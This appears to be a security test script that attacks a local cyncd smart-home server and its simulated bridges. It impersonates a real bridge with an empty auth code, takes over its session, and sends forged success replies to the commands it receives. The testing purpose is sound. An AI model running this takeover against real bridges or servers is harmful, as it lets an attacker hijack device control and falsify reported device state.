#!/usr/bin/env python3
"""Bridge takeover: a hello with a real bridge's id and an empty (or wrong) auth code.

Starts cyncd and a simulated home (2 bridges x 2 devices), then:
1. one hello with bridge 51000000's id and an empty code: is it answered (0x28), is the real
   bridge's session replaced, does a command to its device (default:2, reached only through
   it) still apply;
2. a loop for --seconds (10): reconnect as that bridge with an empty code as fast as possible,
   answer every command packet received with a 0x7B and a success result, while the API sends
   a command to the bridge's device every 0.5 s. Counts takeovers (hellos answered), command
   packets the impostor received, API outcomes, and "applied" outcomes the device never saw.

Usage: python3 tools/attack/takeover.py --cyncd target/release/cyncd [--seconds 10]
"""

import threading
import time

import common as c


def impostor_loop(addr, bridge, stop_at, counts):
    """Reconnects as `bridge` until `stop_at`; counts what it got."""
    while time.monotonic() < stop_at:
        try:
            s = c.tls_connect(addr)
        except OSError:
            counts["connect_failures"] += 1
            continue
        counts["attempts"] += 1
        try:
            s.sendall(c.hello(bridge, b""))
            got, closed = c.read_for(s, 0.05)
            buf = got
            if buf.startswith(bytes.fromhex("28 00 00 00 02 00 00")):
                counts["takeovers"] += 1
                # Hold the session (until the real bridge takes it back, or 1 s) and answer
                # whatever commands arrive.
                end = time.monotonic() + 1.0
                while not closed and time.monotonic() < end:
                    more, closed = c.read_for(s, 0.05)
                    buf += more
                    for p in c.packets(more):
                        if p[0] == 0x73 and len(p) > 19 and p[17] == 0xF8:
                            counts["commands_received"] += 1
                            seq, op = p[13], p[18]
                            ack = bytes.fromhex("7b 00 00 00 07") + p[5:12]
                            frame = bytes([0x7E, seq, 0, 0, 0, 0xF9, op, 1, 0, 0])
                            frame += bytes([(op + 1) & 0xFF, 0x7E])
                            result = b"\x73\x00\x00" + (7 + len(frame)).to_bytes(2, "big") + p[5:9] + b"\x00\x02\x00" + frame
                            s.sendall(ack + result)
            counts["bytes_received"] += len(buf)
        except OSError:
            pass
        finally:
            s.close()


def main():
    ap = c.parser(__doc__)
    ap.add_argument("--seconds", type=float, default=10.0)
    args = ap.parse_args()
    server = c.Server(args.cyncd)
    sim = c.Sim(args.cyncd, server, bridges=2, devices=2)
    bridge = c.SIM_BASE
    # Device 2 is reached only through bridge 51000000 (device 1 also through the other).
    device = "default:2"
    result = {"binary": args.cyncd}
    try:
        c.wait_for(lambda: len(c.connections(server, args.token)) == 2, what="two bridges")
        c.wait_for(lambda: c.set_device(server, device, True, args.token) == "applied",
                   what="a first command applied")
        since = c.connections(server, args.token)[f"{bridge:08x}"]["since"]
        # 1. One empty-code hello.
        s = c.tls_connect(server.devices)
        s.sendall(c.hello(bridge, b""))
        got, _ = c.read_for(s, 1.0)
        s.close()
        time.sleep(0.5)
        now = c.connections(server, args.token).get(f"{bridge:08x}", {}).get("since")
        result["empty_code"] = {
            "answered": got.startswith(bytes.fromhex("28 00 00 00 02 00 00")),
            "real_session_replaced": now != since,
        }
        c.wait_for(lambda: len(c.connections(server, args.token)) == 2, what="bridge back")
        result["empty_code"]["command_after"] = c.set_device(server, device, False, args.token)
        # 2. The loop.
        before = sim.summary()
        truth = sum(len(d["applied_commands"]) for d in sim.devices() if d["id"] == 2)
        counts = dict(attempts=0, takeovers=0, commands_received=0, bytes_received=0,
                      connect_failures=0)
        stop_at = time.monotonic() + args.seconds
        t = threading.Thread(target=impostor_loop, args=(server.devices, bridge, stop_at, counts))
        t.start()
        outcomes, on = {}, True
        while time.monotonic() < stop_at:
            o = c.set_device(server, device, on, args.token)
            outcomes[o] = outcomes.get(o, 0) + 1
            on = not on
            time.sleep(0.5)
        t.join()
        after = sim.summary()
        applied_at_device = sum(len(d["applied_commands"]) for d in sim.devices() if d["id"] == 2) - truth
        result["loop"] = {
            "seconds": args.seconds,
            **counts,
            "api_outcomes": outcomes,
            "applied_at_device": applied_at_device,
            "applied_but_not_at_device": max(0, outcomes.get("applied", 0) - applied_at_device),
            "real_bridge_disconnects": after["disconnects"] - before["disconnects"],
        }
    finally:
        sim.stop()
        server.stop()
    c.emit(result)


if __name__ == "__main__":
    main()
